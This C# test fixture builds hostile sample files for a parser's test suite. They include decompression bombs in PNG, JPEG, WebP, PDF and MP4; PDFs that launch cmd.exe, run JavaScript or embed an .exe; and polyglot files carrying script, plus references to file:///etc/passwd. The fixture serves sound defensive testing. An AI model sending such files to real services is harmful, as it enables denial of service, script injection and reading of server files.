using System.Buffers.Binary;
using System.Globalization;
using System.IO.Compression;
using System.Text;

namespace Mibsp.Tests.Domain.Evidence.Hostile;

/// <summary>Small files that ask for much: memory, time, or trust.</summary>
internal static class Bombs
{
    private const int Huge = 300_000_000;

    internal static IEnumerable<(string, byte[])> Pictures()
    {
        byte[] header = [0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0];
        byte[] wide = [0, 0, 0x27, 0x10, 0, 0, 0x27, 0x10, 8, 6, 0, 0, 0];
        yield return ("PNG that unfolds to 300 MB for one pixel", Samples.Png(("IHDR", header), ("IDAT", Folded(Huge)), ("IEND", [])));
        yield return ("PNG of 10,000 by 10,000 with true data", Samples.Png(("IHDR", wide), ("IDAT", Folded(10_000L * 40_001)), ("IEND", [])));
        yield return ("PNG of 10,000 by 10,000 without data", Samples.Png(("IHDR", wide), ("IDAT", Folded(10)), ("IEND", [])));
        yield return ("PNG of 2 billion pixels a side", Samples.Png(("IHDR", [0x7F, 0xFF, 0xFF, 0xFF, 0x7F, 0xFF, 0xFF, 0xFF, 16, 6, 0, 0, 1]), ("IDAT", Folded(10)), ("IEND", [])));
        yield return ("PNG with a text that unfolds to 300 MB", Samples.Png(("IHDR", header), ("zTXt", [.. "a\0\0"u8, .. Folded(Huge)]), ("IDAT", Folded(2)), ("IEND", [])));
        yield return ("PNG with 90,000 empty chunks", Samples.Png([("IHDR", header), .. Enumerable.Repeat(("IDAT", Array.Empty<byte>()), 90_000), ("IDAT", Folded(2)), ("IEND", [])]));
        yield return ("PNG with 10,000 frames", Samples.Png([("IHDR", header), ("acTL", [0, 0, 0x27, 0x10, 0, 0, 0, 0]), .. Enumerable.Repeat(("fcTL", new byte[26]), 10_000), ("IDAT", Folded(2)), ("IEND", [])]));

        byte[] jpeg = Samples.Read("base.jpg");
        int frame = jpeg.AsSpan().IndexOf((byte[])[0xFF, 0xC0]) + 5;
        yield return ("JPEG of 65,535 by 65,535", [.. jpeg[..frame], 0xFF, 0xFF, 0xFF, 0xFF, .. jpeg[(frame + 4)..]]);
        yield return ("JPEG of 9,999 by 9,999 with hardly any data", [.. jpeg[..frame], 0x27, 0x0F, 0x27, 0x0F, .. jpeg[(frame + 4)..]]);
        byte[] progressive = Samples.Read("prog.jpg");
        byte[] scan = progressive[progressive.AsSpan().LastIndexOf((byte[])[0xFF, 0xDA])..^2];
        yield return ("JPEG with 20,000 scans", [.. progressive[..^2], .. Enumerable.Repeat(scan, 20_000).SelectMany(s => s), 0xFF, 0xD9]);
        yield return ("JPEG with 100,000 comments", Samples.JpegWith("base.jpg", [.. Enumerable.Repeat(Samples.JpegSegment(0xFE, [.. "secretcomment"u8]), 100_000)]));
        yield return ("JPEG behind a megabyte of fill bytes", [.. jpeg[..2], .. Enumerable.Repeat((byte)0xFF, 1_000_000), .. jpeg[2..]]);

        byte[] canvas = [0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF];
        yield return ("WebP with a canvas of 16 million a side", Samples.WebP(("VP8X", canvas), Samples.WebPChunks(Samples.Read("base.webp"))[0]));
        yield return ("WebP with 9,000 frames", Samples.WebP([("VP8X", [2, 0, 0, 0, 23, 0, 0, 15, 0, 0]), ("ANIM", new byte[6]), .. Enumerable.Repeat(("ANMF", new byte[40]), 9_000)]));
        yield return ("WebP with 50,000 chunks", Samples.WebP([Samples.WebPChunks(Samples.Read("base.webp"))[0], .. Enumerable.Repeat(("ODD ", new byte[2]), 50_000)]));
    }

    internal static IEnumerable<(string, byte[])> Documents()
    {
        yield return ("PDF with a stream of 300 MB", Pdf("", Stream("/FlateDecode", Folded(Huge))));
        yield return ("PDF with a stream folded twice", Pdf("", Stream("[/FlateDecode /FlateDecode]", Folded(Folded(Huge)))));
        yield return ("PDF with a stream folded ten times", Pdf("", Stream("[" + string.Concat(Enumerable.Repeat("/FlateDecode ", 10)) + "]", Folded(1000))));
        yield return ("PDF with ten streams of 100 MB", Pdf("", [.. Enumerable.Repeat(Stream("/FlateDecode", Folded(100_000_000)), 10)]));
        yield return ("PDF whose objects lie in a stream of 300 MB", Pdf("", Stream("/FlateDecode /Type /ObjStm /N 1000000 /First 8", Folded(Huge))));
        yield return ("PDF with 200,000 objects", Pdf("", [.. Enumerable.Repeat(Encoding.ASCII.GetBytes("<< >>"), 200_000)]));
        yield return ("PDF with 5,000 pages", Pdf("", [.. Enumerable.Repeat(Encoding.ASCII.GetBytes("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>"), 5_000)]));
        yield return ("PDF under a password", Pdf("/Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>"));
        yield return ("PDF whose pages are their own parents", Pdf("", kids: "2 0 R"));
        yield return ("PDF with a page of a million points", Pdf("", box: "0 0 1000000 1000000"));
        yield return ("PDF with a page of no size", Pdf("", box: "0 0 0 0"));
        yield return ("PDF nested 100,000 deep", Pdf("", Encoding.ASCII.GetBytes(new string('[', 100_000))));
        yield return ("PDF whose table of contents points to itself", [.. Pdf("/Prev 9"), .. "trailer << /Prev 9 >> startxref\n9\n%%EOF"u8]);
        string[] actions = ["/S /JavaScript /JS (app.alert\\(1\\))", "/S /Launch /F (cmd.exe)", "/S /URI /URI (http://192.0.2.1/)", "/S /SubmitForm /F (http://192.0.2.1/)"];
        foreach (string action in actions)
        {
            yield return ($"PDF that acts: {action[..14]}", Pdf("", catalog: $"/OpenAction << {action} >>"));
        }

        yield return ("PDF with a file in it", Pdf("", catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>"));
        yield return ("PDF that asks for a file of the server", Pdf("", Encoding.ASCII.GetBytes("<< /Length 0 /F (file:///etc/passwd) >>\nstream\n\nendstream")));
        yield return ("PDF that is a ZIP as well", [.. Pdf(""), .. "PK\u0005\u0006"u8, .. new byte[18]]);
        yield return ("PDF that is a page as well", [.. "%PDF-1.4\n<html><script>alert(1)</script>"u8, .. Pdf("")[9..]]);
    }

    internal static IEnumerable<(string, byte[])> Media()
    {
        byte[] film = Samples.Read("rich.mp4");
        byte[] nested = [];
        for (int depth = 0; depth < 5000; depth++)
        {
            nested = Box("moov", nested);
        }

        yield return ("MP4 nested 5,000 deep", [.. Box("ftyp", [.. "isom"u8, 0, 0, 0, 0]), .. Box("mdat", [1]), .. nested]);
        yield return ("MP4 with 50,000 boxes", [.. film, .. Enumerable.Repeat(Box("free", []), 50_000).SelectMany(box => box)]);
        yield return ("MP4 with a box of no size", [.. film[..32], 0, 0, 0, 0, .. "moov"u8, .. film[32..]]);
        yield return ("MP4 with a box of 2^63 bytes", [.. Box("ftyp", [.. "isom"u8, 0, 0, 0, 0]), 0, 0, 0, 1, .. "moov"u8, 0x7F, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]);
        yield return ("MP4 that is a page as well", [.. Box("ftyp", [.. "isom<html><script>alert(1)</script>"u8]), .. film[(film.AsSpan().IndexOf("free"u8) - 4)..]]);
        yield return ("MP4 that points to a file", [.. film, .. Box("moov", Box("trak", Box("dref", [.. "url file:///etc/passwd"u8])))]);
        yield return ("playlist called MP4", [.. "#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"u8]);
        byte[] sound = Samples.Read("rich.mp3");
        yield return ("MP3 with a tag of 256 MB", [.. "ID3"u8, 4, 0, 0, 0x7F, 0x7F, 0x7F, 0x7F, .. sound]);
        yield return ("MP3 with 10,000 tags", [.. Enumerable.Repeat((byte[])[.. "ID3"u8, 4, 0, 0, 0, 0, 0, 0], 10_000).SelectMany(tag => tag), .. sound]);
        yield return ("MP3 with a program between its frames", [.. sound[..800], .. "MZ secretmark"u8, .. sound[800..]]);
    }

    private static byte[] Box(string name, byte[] content)
    {
        var box = new byte[content.Length + 8];
        BinaryPrimitives.WriteInt32BigEndian(box, box.Length);
        Encoding.ASCII.GetBytes(name).CopyTo(box, 4);
        content.CopyTo(box, 8);
        return box;
    }

    private static byte[] Stream(string filter, byte[] data) =>
        [.. Encoding.ASCII.GetBytes(string.Create(CultureInfo.InvariantCulture, $"<< /Length {data.Length} /Filter {filter} >>\nstream\n")), .. data, .. "\nendstream"u8];

    private static byte[] Pdf(string trailer, params byte[][] more) => Pdf(trailer, "", "3 0 R", "0 0 72 72", more);

    private static byte[] Pdf(string trailer, string catalog = "", string kids = "3 0 R", string box = "0 0 72 72", byte[][]? more = null)
    {
        var file = new MemoryStream();
        Write(file, "%PDF-1.4\n");
        Write(file, $"1 0 obj\n<< /Type /Catalog /Pages 2 0 R {catalog} >>\nendobj\n");
        Write(file, $"2 0 obj\n<< /Type /Pages /Kids [{kids}] /Count 1 >>\nendobj\n");
        Write(file, $"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R >>\nendobj\n");
        int number = 4;
        foreach (byte[] content in more ?? [])
        {
            Write(file, string.Create(CultureInfo.InvariantCulture, $"{number++} 0 obj\n"));
            file.Write(content);
            Write(file, "\nendobj\n");
        }

        // No table of contents: parsers find the objects themselves, as they do in broken files.
        Write(file, $"trailer\n<< /Root 1 0 R /Size {number.ToString(CultureInfo.InvariantCulture)} {trailer} >>\nstartxref\n0\n%%EOF\n");
        return file.ToArray();
    }

    private static void Write(MemoryStream file, string text) => file.Write(Encoding.ASCII.GetBytes(text));

    private static byte[] Folded(long length)
    {
        using var folded = new MemoryStream();
        using (var folding = new ZLibStream(folded, CompressionLevel.Fastest))
        {
            var zeros = new byte[1024 * 1024];
            for (long left = length; left > 0; left -= zeros.Length)
            {
                folding.Write(zeros, 0, (int)Math.Min(left, zeros.Length));
            }
        }

        return folded.ToArray();
    }

    private static byte[] Folded(byte[] data)
    {
        using var folded = new MemoryStream();
        using (var folding = new ZLibStream(folded, CompressionLevel.SmallestSize))
        {
            folding.Write(data);
        }

        return folded.ToArray();
    }
}
